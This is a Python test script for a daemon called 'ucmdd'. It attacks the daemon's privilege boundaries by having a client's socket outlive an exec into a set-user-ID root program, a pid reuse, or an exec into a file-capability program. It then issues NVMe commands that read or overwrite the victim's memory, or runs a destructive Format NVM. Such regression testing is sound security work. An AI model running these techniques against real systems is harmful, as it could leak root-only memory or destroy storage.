#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Attacks on ucmdd's reach into client memory and capabilities, run as an
unprivileged user by tests/system/daemon_client_mm.sh. A client connects,
keeps its socket in a forked child, and the connecting process becomes
something else: a set-user-ID root program (exec), a root process that
reused its pid (exit), a file-capability program (exec before the daemon
accepted). The child then sends commands whose buffers name that program's
memory, or that need its capabilities. Every command's command block lives
in a memfd region the child shared, so that only the data buffers are
looked up in the connecting process's memory.

Each check prints what happened and exits 0 when the boundary held, 1 when
it was crossed (the old daemon), 2 when the check itself could not run or
could not decide (a victim that gave no verdict on its memory).
"""
import ctypes
import fcntl
import mmap
import os
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from ucmdd_proto import (CMD64, Client, IOCTL, NVME_IOCTL_ADMIN64_CMD,  # noqa: E402
                         NVME_IOCTL_IO64_CMD, REGION_ADD, OPEN)

PAGE = 4096
SECRET = b"ROOT-ONLY-SECRET-0123456789abcde"


class Region:
    """A sealed memfd mapped here and shared with the daemon: page 0 holds
    the command block, the rest data the daemon reaches without the mm."""

    def __init__(self, c, pages=4):
        self.fd = os.memfd_create("ucmd-attack", os.MFD_ALLOW_SEALING)
        os.ftruncate(self.fd, pages * PAGE)
        fcntl.fcntl(self.fd, fcntl.F_ADD_SEALS, fcntl.F_SEAL_SHRINK)
        self.m = mmap.mmap(self.fd, pages * PAGE)
        self.addr = ctypes.addressof(ctypes.c_char.from_buffer(self.m))
        res = c.msg(REGION_ADD, struct.pack("<QQ", self.addr, pages * PAGE), fds=[self.fd])[0]
        if res != 0:
            raise RuntimeError("REGION_ADD: %d" % res)

    def cmd(self, opcode, nsid=0, addr=0, data_len=0, cdw10=0, cdw11=0, cdw12=0):
        self.m[0:CMD64.size] = CMD64.pack(opcode, 0, 0, nsid, 0, 0, 0, addr, 0, data_len,
                                          cdw10, cdw11, cdw12, 0, 0, 0, 0, 0, 0)
        return self.addr


def ioctl(c, fd, req, arg):
    return c.msg(IOCTL, struct.pack("<iIQQ", fd, 0, req, arg))[0]


def open_dev(c, name, flags):
    return c.msg(OPEN, struct.pack("<iI64s", flags, 0, name.encode()))[0]


def lba_size(c, r, ng):
    """Identify Namespace 1 into the region (page 1): the LBA data size."""
    res = ioctl(c, ng, NVME_IOCTL_ADMIN64_CMD,
                r.cmd(0x06, nsid=1, addr=r.addr + PAGE, data_len=PAGE, cdw10=0))
    if res != 0:
        raise RuntimeError("identify namespace: %d" % res)
    flbas = r.m[PAGE + 26] & 0x0F
    lbaf = struct.unpack_from("<I", r.m, PAGE + 128 + 4 * flbas)[0]
    return 1 << ((lbaf >> 16) & 0xFF)


def steal(c, r, ng, lbs, addr):
    """The two ways in: what each returned, and whether the secret came out.
    Read: an NVMe Write whose data buffer is addr copies that memory to LBA 0,
    read back into the region. Write: Identify Controller into addr."""
    out = {}
    try:
        out["write-from-victim"] = ioctl(c, ng, NVME_IOCTL_IO64_CMD,
                                         r.cmd(0x01, nsid=1, addr=addr, data_len=lbs))
        r.m[2 * PAGE:3 * PAGE] = b"\0" * PAGE
        out["read-back"] = ioctl(c, ng, NVME_IOCTL_IO64_CMD,
                                 r.cmd(0x02, nsid=1, addr=r.addr + 2 * PAGE, data_len=lbs))
        out["leaked"] = SECRET in bytes(r.m[2 * PAGE:2 * PAGE + lbs])
        out["identify-into-victim"] = ioctl(c, ng, NVME_IOCTL_ADMIN64_CMD,
                                            r.cmd(0x06, addr=addr, data_len=PAGE, cdw10=1))
    except (ConnectionError, BrokenPipeError, ConnectionResetError) as e:
        out["closed"] = type(e).__name__
    if "closed" not in out:
        # cut off: the next request finds the connection closed
        try:
            c.hello()
            out["after"] = "still served"
        except (ConnectionError, BrokenPipeError, ConnectionResetError) as e:
            out["closed"] = type(e).__name__
    return out


def put(path, text):
    """PATH holding TEXT, whole from the moment it exists (written aside and
    renamed): the other side polls for it and reads it at once."""
    with open(path + ".tmp", "w") as f:
        f.write(text)
    os.rename(path + ".tmp", path)


def verdict(out, victim_says):
    """OUT: what the daemon did with the commands (steal()); VICTIM_SAYS: the
    victim's own line about its secret page, "intact" or "overwritten", or
    what became of a victim that gave none. Without the victim's word the
    page may have been overwritten: never a pass."""
    print("daemon:", out, "victim:", victim_says, flush=True)
    crossed = out.get("leaked") or victim_says == "overwritten" or \
        out.get("write-from-victim") == 0 or out.get("identify-into-victim") == 0
    if crossed:
        print("CROSSED: the client reached another program's memory")
        return 1
    if victim_says != "intact":
        print("UNDECIDED: no verdict from the victim on its secret page")
        return 2
    if "closed" not in out:
        print("CROSSED: the client was not cut off")
        return 1
    print("held: the client never reached the program's memory, and was cut off")
    return 0


def connect_ng(sock):
    """A client with a region and ng0n1 open read-write: (client, region,
    fd, LBA size), or None (said why)."""
    c = Client(sock)
    if c.hello()[0] != 0:
        return None
    r = Region(c)
    ng = open_dev(c, "ng0n1", os.O_RDWR)
    if ng < 0:
        print("open ng0n1: %d" % ng)
        return None
    return c, r, ng, lba_size(c, r, ng)


def exec_attack(sock, helper):
    """Connect, fork a child that keeps the socket, exec a set-user-ID root
    program in the connecting process. The child's answer goes to RC."""
    conn = connect_ng(sock)
    if conn is None:
        return 2
    c, r, ng, lbs = conn
    to_child, from_victim = os.pipe()
    to_victim, from_child = os.pipe()
    pid = os.fork()
    if pid != 0:
        # the connecting process becomes the set-user-ID program
        os.dup2(from_victim, 1)
        os.dup2(to_victim, 0)
        os.execv(helper, [helper])
    os.close(from_victim)
    os.close(to_victim)
    rd = os.fdopen(to_child)
    wr = os.fdopen(from_child, "w")
    vpid, veuid, vaddr = rd.readline().split()
    if int(vpid) != os.getppid() or int(veuid) != 0:
        print("the helper is not a set-user-ID root program here (euid %s): nosuid?" % veuid)
        return 2
    out = steal(c, r, ng, lbs, int(vaddr, 16))
    wr.write("\n")
    wr.flush()
    victim = rd.readline().strip()
    if not victim:
        victim = "none: its output ended without a verdict (it exited or was killed)"
    return verdict(out, victim)


def pidreuse_attack(sock, state):
    """Connect, fork a child that keeps the socket, exit the connecting
    process; the test makes a root process take its pid and writes
    STATE/victim ("pid addr"); the child then names that process's memory,
    and writes its answer to STATE/rc."""
    conn = connect_ng(sock)
    if conn is None:
        return 2
    c, r, ng, lbs = conn
    rd, wr = os.pipe()
    pid = os.fork()
    if pid != 0:
        # the connecting process: say its pid, and exit (its parent reaps it)
        os.close(rd)
        os.write(wr, b"go")
        put(os.path.join(state, "pid"), "%d\n" % os.getpid())
        os._exit(0)
    os.close(wr)
    os.read(rd, 2)
    victim = os.path.join(state, "victim")
    for _ in range(600):
        if os.path.exists(victim):
            break
        time.sleep(0.1)
    else:
        print("no victim process")
        return 2
    with open(victim) as f:
        vpid, vaddr = f.read().split()
    with open(os.path.join(state, "pid")) as f:
        if int(f.read()) != int(vpid):
            print("the victim did not take the pid")
            return 2
    out = steal(c, r, ng, lbs, int(vaddr, 16))
    put(os.path.join(state, "done"), "done\n")
    # the test writes the victim's own account of its memory (whole: renamed
    # into place), or what became of a victim that gave none
    for _ in range(600):
        if os.path.exists(os.path.join(state, "verdict")):
            break
        time.sleep(0.1)
    else:
        print("no verdict from the test in 60 s")
        return 2
    with open(os.path.join(state, "verdict")) as f:
        return verdict(out, f.read().strip())


def filecap_attack(sock, capprog, ready):
    """Connect while the daemon is stopped (the accept delayed), exec a
    program with file capabilities in the connecting process, then, once
    the daemon runs again, Format NVM from the child that kept the socket.
    The test stops ucmdd before and continues it when READY appears; the
    answer goes to rc next to READY."""
    s = Client(sock)   # connect() completes in the backlog: no accept yet
    pid = os.fork()
    if pid != 0:
        os.execv(capprog, [capprog, "60"])
    ppid = os.getppid()
    for _ in range(600):
        with open("/proc/%d/status" % ppid) as f:
            eff = [ln for ln in f if ln.startswith("CapEff:")][0]
        if int(eff.split()[1], 16) & (1 << 21):
            break
        time.sleep(0.05)
    else:
        print("the exec'd program has no CAP_SYS_ADMIN: setcap failed?")
        return 2
    open(ready, "w").close()
    try:
        if s.hello()[0] != 0:
            print("hello refused")
            return 2
        r = Region(s)
        fd = open_dev(s, "nvme0", os.O_RDONLY)
        res = ioctl(s, fd, NVME_IOCTL_ADMIN64_CMD, r.cmd(0x80, nsid=1)) if fd >= 0 else fd
    except (ConnectionError, BrokenPipeError, ConnectionResetError, RuntimeError) as e:
        print("held: the connection was refused (%s)" % type(e).__name__)
        return 0
    finally:
        os.kill(ppid, 9)
    print("format nvm as the client: %d" % res)
    if res == 0:
        print("CROSSED: Format NVM ran with the exec'd program's capability")
        return 1
    print("held: Format NVM denied")
    return 0


def answer(path, rc):
    """The child's answer: its output first (the test prints it once the
    answer is there), then RC at PATH."""
    sys.stdout.flush()
    put(path, "%d\n" % rc)


def main():
    what = sys.argv[1]
    if what == "exec":
        # the answer is the child's (the process that connected is the helper now)
        rc = exec_attack(sys.argv[2], sys.argv[3])
        answer(sys.argv[4], rc)
        sys.exit(rc)
    if what == "pidreuse":
        # the answer is the child's (the process that connected has exited)
        rc = pidreuse_attack(sys.argv[2], sys.argv[3])
        answer(os.path.join(sys.argv[3], "rc"), rc)
        sys.exit(rc)
    if what == "filecap":
        # the answer is the child's (the process that connected is killed)
        rc = filecap_attack(sys.argv[2], sys.argv[3], sys.argv[4])
        answer(os.path.join(os.path.dirname(sys.argv[4]), "rc"), rc)
        sys.exit(rc)
    print("unknown check", what)
    sys.exit(2)


if __name__ == "__main__":
    main()
